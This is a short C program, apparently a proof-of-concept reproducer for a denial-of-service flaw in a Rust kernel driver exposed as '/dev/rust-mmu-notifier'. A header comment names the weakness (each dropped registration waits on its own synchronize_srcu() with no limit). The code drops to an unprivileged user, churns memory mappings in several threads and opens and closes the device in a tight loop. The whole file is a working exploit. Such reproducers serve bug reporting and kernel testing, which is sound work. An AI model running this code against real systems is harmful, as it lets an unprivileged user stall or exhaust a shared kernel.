/* What it attacks: each registration that is dropped is removed by itself, with a synchronize_srcu() each, one after the
 * other (space.rs, free_dead()), and there is no limit to how many wait for that. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <pthread.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
static volatile int stop;
static void *churn(void *a) { while (!stop) { char *p = mmap(0, 4096, 3, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0); *p = 1; munmap(p, 4096); } return 0; }
int main(int argc, char **argv)
{
	pthread_t t; unsigned long n = 0; int seconds = atoi(argv[1]), threads = atoi(argv[2]);
	if (setuid(65534)) return 1;
	for (int i = 0; i < threads; i++) pthread_create(&t, 0, churn, 0);
	for (time_t end = time(0) + seconds; time(0) < end;)
		for (int i = 0; i < 100; i++, n++) { int d = open("/dev/rust-mmu-notifier", O_RDONLY); if (d < 0) { perror("open"); printf("%lu opened\n", n); return 1; } close(d); }
	stop = 1;
	printf("%lu opened and closed in %d s\n", n, seconds);
	fflush(stdout);
	_exit(0);
}
